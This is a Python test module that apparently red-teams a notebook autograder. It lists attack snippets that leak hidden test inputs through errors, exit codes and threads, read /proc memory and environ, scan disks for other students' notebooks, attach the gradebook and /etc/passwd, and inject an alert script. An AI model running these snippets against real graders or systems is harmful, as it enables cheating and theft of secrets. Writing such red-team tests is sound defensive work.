"""Secrets: the hidden test, what it is called with, another student's work."""

from tests.grading.editing import DOUBLE, Edited
from tests.redteam.attack import NEIGHBOR_MARK, Attack

_REMEMBER = "seen = []\ndef double(v):\n    seen.append(v)\n    return 2 * v"
_TOLD_BY_VALUE = """
def slope(v):
    told = float(max(abs(float(x)) for s in seen for x in np.ravel(s))) if seen else 0.0
    return told + 0 * v, told + 0 * v
"""
_TOLD_BY_ERROR = """
def slope(v):
    raise ValueError(f"the hidden input is {[np.ravel(s).tolist() for s in seen]}")
"""
_TOLD_BY_TIMEOUT = """
class Timeout(Exception): pass
def double(v):
    raise Timeout(f"the hidden input is {np.ravel(v).tolist()}")
"""
_TOLD_BY_DEATH = """
class ProcessEnded(Exception): pass
class NotData(Exception): pass
def double(v):
    if np.size(v) == 1 and np.max(v) > 100:
        raise ProcessEnded(f"the hidden input is {np.ravel(v).tolist()}")
    return 2 * v
"""
_TOLD_BY_EXIT_CODE = """
def double(v):
    import os
    if np.size(v) == 1 and np.max(v) > 100: os._exit(int(np.max(v)) % 256)
    return 2 * v
"""
_TOLD_BY_LINE = """
def double(v):
    if np.size(v) == 1 and np.max(v) > 100:
        exec(compile("\\n" * (int(np.max(v)) - 1) + "raise ValueError", "<cell 3>", "exec"))
    return 2 * v
"""
_TOLD_BY_NAME = """
def double(v):
    if np.size(v) == 1 and np.max(v) > 100:
        raise type(f"Input{int(np.max(v))}", (Exception,), {})("hidden")
    return 2 * v
"""
_TOLD_BY_KIND = """
def double(v):
    if np.size(v) == 1 and np.max(v) > 100:
        return np.zeros((int(np.max(v)),))
    return 2 * v
"""
_TOLD_ALOUD = """
def double(v):
    if np.size(v) == 1 and np.max(v) > 100:
        print("the hidden input is", v)
        import warnings
        warnings.warn(f"the hidden input is {v}")
        raise NotImplementedError(f"the hidden input is {v}")
    return 2 * v
"""
_TOLD_LATER = (
    "import atexit, threading, time, sys\n"
    "def tell():\n"
    "    while True:\n"
    "        if seen and max(np.max(s) for s in seen) > 100: print('hidden', seen)\n"
    "        time.sleep(0.01)\n"
    "threading.Thread(target=tell, daemon=True).start()\n"
    "atexit.register(lambda: print('hidden', seen))"
)
_HISTORY = """
def double(v):
    shell = get_ipython()
    sources = [*shell.user_ns["In"], *map(str, shell.history_manager.input_hist_raw)]
    raise ValueError("the test is " + " ".join(sources)[-4000:])
"""
_STACK = """
def double(v):
    import sys, linecache
    told, frame = [], sys._getframe()
    while frame:
        told += [*map(repr, frame.f_code.co_consts), *linecache.getlines(frame.f_code.co_filename)]
        frame = frame.f_back
    raise ValueError("the test is " + " ".join(t for t in told if "hidden" in t)[-4000:])
"""
_COLLECTOR = """
import gc
gc.unfreeze()
found = []
for o in gc.get_objects():
    try: text = repr(o)[:5000]
    except BaseException: continue
    if "ex.hid" + "den" in text: found.append(text)
print("found", found[:5])
"""
_DISK = """
import glob, os
for pattern in ("*.ipynb", "../*/*.ipynb", "../../*/*/*.ipynb", "../../../../solutions/*/*.ipynb",
                "/tmp/**/*.ipynb", "/proc/*/cwd/*.ipynb", "/proc/*/root/tmp/**/*.ipynb"):
    for path in glob.glob(pattern, recursive=True)[:40]:
        try: print(path, open(path).read())
        except OSError as error: print(error)
"""
_MEMORY = """
for pid in ("self", "1", "2", str(__import__("os").getppid())):
    try:
        maps = open(f"/proc/{pid}/maps").read()
        print(maps[:200], open(f"/proc/{pid}/environ").read())
        memory = open(f"/proc/{pid}/mem", "rb")
        for line in maps.splitlines():
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(start)
            data = memory.read(min(end - start, 2**22))
            if b"ex.hid" + b"den" in data: print("found", data[:4000])
    except OSError as error: print(error)
"""
_ADDRESSES = """
import ctypes, gc, os, re
gc.unfreeze()
libc, (there, here) = ctypes.CDLL(None), os.pipe()
words = re.compile(b"ex[.]hidden[.]same|n[e]ighbor-7f3ab2")  # not in memory themselves
def readable(page):
    return libc.write(here, ctypes.c_void_p(page), 1) == 1 and os.read(there, 1) is not None
def scan():
    for start in sorted({id(o) >> 20 << 20 for o in gc.get_objects()}):
        for page in filter(readable, range(start, start + 2**20, 4096)):
            data = ctypes.string_at(page, 4096)
            if words.search(data): print("found", data)
scan()
def double(v):
    scan()
    return 0 * v
"""
_DESCRIPTORS = """
import os
for fd in range(3, 64):
    try: print(fd, os.fstat(fd).st_mode, os.read(fd, 4000))
    except OSError: pass
"""
_CORE = """
import resource, os, glob
try: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
except (ValueError, OSError) as error: print(error)
print(glob.glob("core*"), glob.glob("/var/lib/systemd/coredump/*"))
"""
_CALLBACK = """
def double(v):
    told = []
    for name in dir(v):
        try: told.append(repr(getattr(v, name))[:100])
        except Exception: pass
    base = getattr(v, "base", None)
    told.append(repr(base)[:2000])
    raise ValueError(" ".join(t for t in told if "31" "337" in t or "hidden" in t))
"""
_LINGER = """
import os
open(os.path.join(os.environ.get("HOME", "."), "left-for-my-friend.txt"), "w").write("answers")
for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
    try: print(open(os.path.join(folder, "left-for-my-friend.txt")).read())
    except OSError: pass
"""


def _attached(edited: Edited) -> Edited:
    edited.cell("think_slope").attachments = {
        "../../../../solutions/01-tiny/tiny.ipynb": {"image/png": "../../gradebook.db"},
        "file:///etc/passwd": {"text/html": "<script>alert(1)</script>"},
    }
    return edited.write(think_slope="![a](attachment:file:///etc/passwd) ![](file:///etc/passwd)")


ATTACKS = (
    Attack("hidden input as a value", "shows the hidden input as another exercise's value",
           points=2, double=_REMEMBER, slope=_TOLD_BY_VALUE),
    Attack("hidden input as an error", "shows it in another exercise's error", points=2,
           double=_REMEMBER, slope=_TOLD_BY_ERROR),
    Attack("hidden input as a time-out", "raises an error that is called Timeout",
           double=_TOLD_BY_TIMEOUT),
    Attack("hidden input as a death", "raises an error that is called ProcessEnded",
           double=_TOLD_BY_DEATH),
    Attack("hidden input as an exit code", "ends its process with a code that says it",
           double=_TOLD_BY_EXIT_CODE),
    Attack("hidden input as a line number", "raises an error in line 31337",
           double=_TOLD_BY_LINE),
    Attack("hidden input as a class name", "raises an error of that name", double=_TOLD_BY_NAME),
    Attack("hidden input as a shape", "returns that many zeros", double=_TOLD_BY_KIND),
    Attack("hidden input printed and warned", "prints, warns and raises it",
           double=_TOLD_ALOUD),
    Attack("hidden input told by a thread", "waits in the background until it can print it",
           points=6, double=_REMEMBER, before=(_TOLD_LATER,)),
    Attack("history read", "finds the running test in the shell's history", exploit="E6",
           double=_HISTORY),
    Attack("stack read", "finds the test in the frames above", exploit="E6", double=_STACK),
    Attack("collector walked", "finds the test among all objects", exploit="E6",
           before=(_COLLECTOR,)),
    Attack("callback looked through", "finds data behind the argument", double=_CALLBACK),
    Attack("disk searched", "reads the notebooks beside and above", exploit="E7", before=(_DISK,)),
    Attack("memory of others read", "reads /proc of the grader and of itself",
           before=(_MEMORY,)),
    Attack("addresses scanned", "reads every page of its own memory, the template's included",
           exploit="E6", double=_ADDRESSES),
    Attack("descriptors read", "reads whatever is open", before=(_DESCRIPTORS,)),
    Attack("core dumped", "asks for a core file", before=(_CORE,)),
    Attack("message to a friend", "leaves a file for the next student", before=(_LINGER,)),
    Attack("attachments by path", "attaches the solution and the gradebook", exploit="E14",
           points=6, double=DOUBLE, edit=_attached),
    Attack("neighbor imported", "imports or runs a neighbor's notebook", exploit="E8",
           before=(f"%run ../honest-1/01-tiny/tiny.ipynb\nprint({NEIGHBOR_MARK[:8]!r})",)),
)  # fmt: skip
